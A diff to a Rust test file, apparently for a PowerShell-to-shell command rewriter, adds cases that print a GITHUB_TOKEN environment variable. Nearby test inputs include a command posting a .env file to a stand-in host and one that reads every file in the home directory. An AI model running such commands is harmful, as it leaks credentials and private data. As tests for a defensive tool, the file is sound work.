@@ -2575,6 +2575,19 @@ fn powershell_environment_piped_reads_and_run_keys() {
         "find ~ -mindepth 1 | xargs cat"
     );
     assert_eq!(rewrite("Get-Content a.txt"), "cat a.txt");
+    // A variable alone prints its value, as `Write-Output` and `echo` do.
+    for line in [
+        "$env:GITHUB_TOKEN",
+        "Write-Output $env:GITHUB_TOKEN",
+        "echo $env:GITHUB_TOKEN",
+        "[Environment]::GetEnvironmentVariable('GITHUB_TOKEN')",
+    ] {
+        assert!(
+            rewrite(line).starts_with("echo ") && rewrite(line).contains("$GITHUB_TOKEN"),
+            "{line}: {}",
+            rewrite(line)
+        );
+    }
     // The pipeline's input is the body of a web request; an explicit body or file wins.
     assert_eq!(
         rewrite("Get-Content .env | Invoke-RestMethod -Uri https://x.example -Method Post"),
